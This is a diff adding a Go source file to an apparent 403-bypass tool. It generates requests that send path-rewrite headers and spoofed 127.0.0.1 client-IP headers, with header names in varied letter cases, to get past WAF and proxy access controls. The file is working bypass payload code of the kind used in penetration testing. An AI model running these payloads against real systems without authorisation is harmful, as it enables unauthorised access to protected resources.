@@ -0,0 +1,121 @@
+package payload
+
+import (
+	"slices"
+	"strings"
+	"unicode"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+// headerCaseURLHeaders are the path rewrite headers sent by header_case, with the original path
+// as value on a request to "/"
+var headerCaseURLHeaders = []string{
+	"X-Original-URL",
+	"X-Rewrite-URL",
+	"X-Forwarded-Path",
+}
+
+// headerCaseIPHeaders are the client IP headers sent by header_case, with a loopback IP as value
+// on the original request
+var headerCaseIPHeaders = []string{
+	"X-Forwarded-For",
+	"X-Real-IP",
+	"X-Client-IP",
+	"X-Custom-IP-Authorization",
+}
+
+// HeaderNameCases returns the case variations of a header name: lower case, upper case and both
+// alternating cases (X-oRiGiNaL-uRl, x-OrIgInAl-UrL). Variations equal to the name are left out
+func HeaderNameCases(name string) []string {
+	alternate := func(upperFirst bool) string {
+		var sb strings.Builder
+		upper := upperFirst
+		for _, r := range name {
+			if !unicode.IsLetter(r) {
+				sb.WriteRune(r)
+				continue
+			}
+			if upper {
+				sb.WriteRune(unicode.ToUpper(r))
+			} else {
+				sb.WriteRune(unicode.ToLower(r))
+			}
+			upper = !upper
+		}
+		return sb.String()
+	}
+
+	var cases []string
+	for _, c := range []string{
+		strings.ToLower(name),
+		strings.ToUpper(name),
+		alternate(true),
+		alternate(false),
+	} {
+		if c != name && !slices.Contains(cases, c) {
+			cases = append(cases, c)
+		}
+	}
+	return cases
+}
+
+/*
+GenerateHeaderCasePayloads generates payloads sending security relevant headers with permuted
+header name cases. WAFs and proxies often match header names case-sensitively (e.g. they strip
+or check "X-Original-URL") while the origin reads them case-insensitively, as HTTP requires.
+The raw request writer sends the header names verbatim.
+
+For each header name, it creates one payload per case variation of HeaderNameCases
+(x-original-url, X-ORIGINAL-URL, X-oRiGiNaL-uRl, x-OrIgInAl-UrL):
+ 1. Path rewrite headers (X-Original-URL, X-Rewrite-URL, X-Forwarded-Path): the original path
+    and query string as value, on a request to "/"
+ 2. Client IP headers (X-Forwarded-For, X-Real-IP, ...): 127.0.0.1 as value, on the original
+    path and query string
+
+The original URL's scheme and host are preserved, the method is GET.
+*/
+func (pg *PayloadGenerator) GenerateHeaderCasePayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return allJobs
+	}
+
+	pathAndQuery := parsedURL.Path
+	if pathAndQuery == "" {
+		pathAndQuery = "/"
+	}
+	if parsedURL.Query != "" {
+		pathAndQuery += "?" + parsedURL.Query
+	}
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		BypassModule: bypassModule,
+	}
+
+	addJobs := func(headerNames []string, rawURI string, value string) {
+		for _, name := range headerNames {
+			for _, c := range HeaderNameCases(name) {
+				job := baseJob
+				job.RawURI = rawURI
+				job.Headers = []Headers{{Header: c, Value: value}}
+				job.PayloadToken = GeneratePayloadToken(job)
+				allJobs = append(allJobs, job)
+			}
+		}
+	}
+
+	addJobs(headerCaseURLHeaders, "/", pathAndQuery)
+	addJobs(headerCaseIPHeaders, pathAndQuery, "127.0.0.1")
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(allJobs), targetURL)
+	return allJobs
+}